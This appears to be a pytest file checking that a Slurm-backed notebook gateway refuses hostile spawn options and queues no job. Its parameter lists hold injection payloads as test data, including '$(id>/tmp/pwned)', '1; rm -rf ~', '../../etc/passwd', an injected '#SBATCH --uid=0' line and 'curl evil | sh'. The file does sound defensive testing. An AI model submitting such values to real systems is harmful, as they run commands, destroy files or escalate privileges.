"""Every submitted option is checked on the server; a refusal submits no job."""

from __future__ import annotations

import html

import pytest
from charging import SlurmSubmissions
from support import job_records_of, logged_in

HOSTILE_FORM_VALUES = [
    ("cpus", "1\n#SBATCH --uid=0", "is not a whole number"),
    ("cpus", "#SBATCH --partition=admin", "is not a whole number"),
    ("memory_gb", "$(id>/tmp/pwned)", "is not a whole number"),
    ("walltime_hours", "1; rm -rf ~", "is not a whole number"),
    ("profile", "../../etc/passwd", "is not a profile of this site"),
    ("cpus", "99999999999", "is not a whole number"),
    ("cpus", "100000", "is more than"),
    ("cpus", "-1", "is not a whole number"),
    ("cpus", "0", "is less than 1"),
    ("profile", "no-such-profile", "is not a profile of this site"),
    ("profile", "workshop", "only for members of trainers"),
    # What a session is charged to: only alice's own names (imaging, lightsheet-lab; QoS normal).
    ("account", "imaging\n#SBATCH --uid=0",
     "Slurm account 'imaging\\n#SBATCH --uid=0' is not one of yours"),
    ("account", "trainers", "Slurm account 'trainers' is not one of yours"),
    ("qos", "normal --reservation=maint", "is not allowed for your account 'imaging'"),
    ("reservation", "$(id>/tmp/pwned)",
     "reservation '$(id>/tmp/pwned)' is not an active reservation"),
]


@pytest.mark.parametrize(("field", "value", "message"), HOSTILE_FORM_VALUES)
def test_hostile_form_value_is_refused_without_a_job(hub, slurm, field, value, message):
    alice = logged_in(hub.url, "alice")
    before = job_records_of(slurm, "alice")
    submissions = SlurmSubmissions(slurm)
    fields = {"profile": "cpu", "cpus": "1", "memory_gb": "1", "gpus": "0", "walltime_hours": "1"}
    fields[field] = value
    response = alice.submit_form(fields)
    assert response.status_code == 400
    assert message in html.unescape(response.text)
    # The form comes back so the user can correct it.
    assert 'name="profile"' in response.text
    assert alice.server() is None
    assert job_records_of(slurm, "alice") == before
    assert submissions.count() == 0  # not even one Slurm refused


HOSTILE_API_OPTIONS = [
    ({"profile": "cpu", "cpus": "1;id"}, "is not a whole number"),
    ({"profile": "cpu", "cpus": True}, "is not a whole number"),
    ({"profile": "cpu", "cpus": 1.5}, "is not a whole number"),
    ({"profile": "cpu", "cpus": [1, 2]}, "expected one value"),
    ({"profile": {"slug": "cpu"}}, "is not a profile name"),
    ({"profile": "cpu", "prologue": "curl evil | sh"}, "unknown option 'prologue'"),
    ({"profile": "cpu", "partition": "admin"}, "unknown option 'partition'"),
    ({"profile": "cpu", "memory_gb": -4}, "is less than 1"),
    ({"profile": "cpu", "walltime_hours": 10**9}, "is more than"),
    ({"cpus": 1}, "no profile chosen"),
    ({"profile": "cpu", "account": "no-such-lab"},
     "Slurm account 'no-such-lab' is not one of yours"),
    ({"profile": "cpu", "account": {"name": "imaging"}}, "is not a name"),
    ({"profile": "cpu", "qos": ["normal", "normal"]}, "expected one value"),
    ({"profile": "cpu", "reservation": "../../etc"}, "reservation '../../etc' is not an active"),
]


@pytest.mark.parametrize(("options", "message"), HOSTILE_API_OPTIONS)
def test_hostile_api_options_are_refused_without_a_job(hub, slurm, options, message):
    alice = logged_in(hub.url, "alice")
    before = job_records_of(slurm, "alice")
    submissions = SlurmSubmissions(slurm)
    response = alice.api("POST", "/users/alice/server", json=options)
    if response.status_code in (201, 202):
        # The hub started the spawn; it must fail before anything is queued.
        events = alice.progress(timeout=30)
        assert events[-1].get("failed"), events
        assert message in events[-1]["message"]
    else:
        assert response.status_code >= 400
        assert message in response.json()["message"]
    assert alice.server() is None
    assert job_records_of(slurm, "alice") == before
    assert submissions.count() == 0


def test_profile_of_another_group_submitted_by_hand_is_refused(hub, slurm):
    tom = logged_in(hub.url, "tom")  # a trainer: CPU and Workshop only
    before = job_records_of(slurm, "tom")
    response = tom.submit_form({"profile": "large-memory", "cpus": "1"})
    assert response.status_code == 400
    assert "only for members of imaging, gateway-admins" in response.text
    response = tom.api("POST", "/users/tom/server", json={"profile": "large-memory"})
    assert response.status_code >= 400 or tom.progress(timeout=30)[-1].get("failed")
    assert job_records_of(slurm, "tom") == before
